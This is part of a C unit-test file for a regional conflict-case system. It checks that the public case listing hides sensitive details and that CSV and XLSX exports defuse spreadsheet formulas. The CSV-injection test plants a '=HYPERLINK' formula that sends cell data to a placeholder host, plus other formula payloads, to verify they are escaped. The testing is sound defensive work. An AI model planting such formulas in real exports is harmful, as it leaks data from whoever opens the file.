    support_http_init(&anon, server.base_url);
    struct support_response r;
    assert_int_equal(support_http(&anon, "GET", "/api/v1/public/cases", NULL, 0, NULL, &r), 200);
    char *cc = support_response_header(&r, "Cache-Control");
    assert_string_equal(cc, "public, max-age=30");
    free(cc);
    json_t *v = json_loads(r.body, 0, NULL);
    assert_non_null(v);
    /* earlier tests add cases: the counts add up to the total, the demo's are there */
    json_t *by = json_object_get(v, "by_status");
    json_int_t sum = 0;
    const char *k;
    json_t *n;
    json_object_foreach(by, k, n) sum += json_integer_value(n);
    assert_int_equal(sum, jint(v, "total"));
    assert_true(json_integer_value(json_object_get(by, "pemulihan")) >= 1);
    /* only cases with a public summary are listed, at regency level at most */
    json_t *items = json_object_get(v, "items");
    json_t *poso = NULL;
    for (size_t i = 0; i < json_array_size(items); i++) {
        json_t *it = json_array_get(items, i);
        assert_true(strlen(jstr(it, "public_summary")) > 0);
        assert_true(strlen(jstr(it, "region_code")) <= 5);
        if (str_eq(jstr(it, "region_code"), "72.02"))
            poso = it;
    }
    assert_non_null(poso);
    assert_string_equal(jstr(poso, "status"), "pemulihan");
    assert_string_equal(jstr(poso, "region"), "Kabupaten Poso");
    /* never titles, parties, actions or victims */
    assert_null(json_object_get(poso, "title"));
    assert_null(strstr(r.body, "Sengketa lahan perkebunan"));
    assert_null(strstr(r.body, "Warga Desa A"));
    assert_null(strstr(r.body, "Pengamanan lokasi"));
    assert_null(strstr(r.body, "victim"));
    json_decref(v);
    support_response_free(&r);
    support_http_cleanup(&anon);
}

/* ---- CSV injection in exports ------------------------------------------------------------ */

/* A regency operator plants spreadsheet formulas in an action; the national desk's CSV export
 * (HTTP and CLI, the same bytes) holds them as text behind a ', numbers stay numbers, and the
 * XLSX export holds them as string cells (no <f> formula element). */
static void test_export_formula_cells(void **state)
{
    (void)state;
    const char *body = "{\"region\":\"32.73\",\"year\":2033,\"type\":\"pks\",\"title\":\"RAD "
                       "uji rumus\"}";
    json_t *v = as(3, "POST", "/api/v1/rad", body, 201);
    json_int_t id = jint(json_object_get(v, "rad"), "id");
    json_decref(v);
    char p[96];
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/actions", (long long)id);
    json_decref(
        as(3, "POST", p,
           "{\"phase\":\"pencegahan\",\"program\":\"@SUM(1+1)\",\"kegiatan\":"
           "\"=HYPERLINK(\\\"http://x.test/?d=\\\"&A1,\\\"Klik\\\")\",\"indikator\":\"-2+3\","
           "\"unit\":\"+62 812 3456 7890\",\"opd\":\"Badan Kesbangpol\",\"anggaran\":"
           "5000000,\"target\":2,\"focus\":\"potensi_konflik\"}",
           201));
    static const char row[] =
        "\r\n32.73,Kota Bandung,2033,pks,draft,2,1,pencegahan,'@SUM(1+1),"
        "\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"Klik\"\")\",'-2+3,2,'+62 812 3456 7890,"
        "5000000,,Badan Kesbangpol,,potensi_konflik,tidak,,\r\n";
    struct support_response r;
    get_as(1, "/api/v1/rad/export?year=2033&region=32.73", 200, &r);
    if (!strstr(r.body, row))
        fail_msg("row not in the export:\n%s", r.body);
    csv_rows_in(r.body, "32.73,", 1);

    struct support_run cli;
    const char *args[] = {"--db",     db_path, "export",   "plans", "--year", "2033",
                          "--region", "32.73", "--format", "csv",   NULL};
    assert_int_equal(support_run(&cli, NULL, args), 0);
    assert_string_equal(cli.out, r.body);
    support_run_free(&cli);
    support_response_free(&r);

    get_as(1, "/api/v1/rad/export?year=2033&region=32.73&format=xlsx", 200, &r);
    char *xlsx = support_path(tmpdir, "rumus.xlsx");
    FILE *f = fopen(xlsx, "wb");
    assert_non_null(f);
    assert_int_equal(fwrite(r.body, 1, r.len, f), r.len);
    assert_int_equal(fclose(f), 0);
    support_response_free(&r);
    char *sheet = unzip_member(xlsx, "xl/worksheets/sheet1.xml");
    char *strings = unzip_member(xlsx, "xl/sharedStrings.xml");
    if (sheet && strings) {
        assert_null(strstr(sheet, "<f>"));
        assert_non_null(
            strstr(strings, "<t>=HYPERLINK(\"http://x.test/?d=\"&amp;A1,\"Klik\")</t>"));
        assert_non_null(strstr(strings, "<t>@SUM(1+1)</t>"));
        assert_non_null(strstr(strings, "<t>-2+3</t>"));
    } else {
        fprintf(stderr, "unzip not available: XLSX cells not checked\n");
    }
    free(sheet);
    free(strings);
    free(xlsx);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_demo_year),
        cmocka_unit_test(test_demo_people),
        cmocka_unit_test(test_compliance),
        cmocka_unit_test(test_answered_alerts),
        cmocka_unit_test(test_cli_export),
        cmocka_unit_test(test_http_exports),
        cmocka_unit_test(test_authorization_matrix),
        cmocka_unit_test(test_contacts_and_victims),
        cmocka_unit_test(test_case_event_link),
        cmocka_unit_test(test_rad_workflow),
        cmocka_unit_test(test_evidence),
        cmocka_unit_test(test_cli_import),
        cmocka_unit_test(test_public_cases),
        cmocka_unit_test(test_export_formula_cells),
    };
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
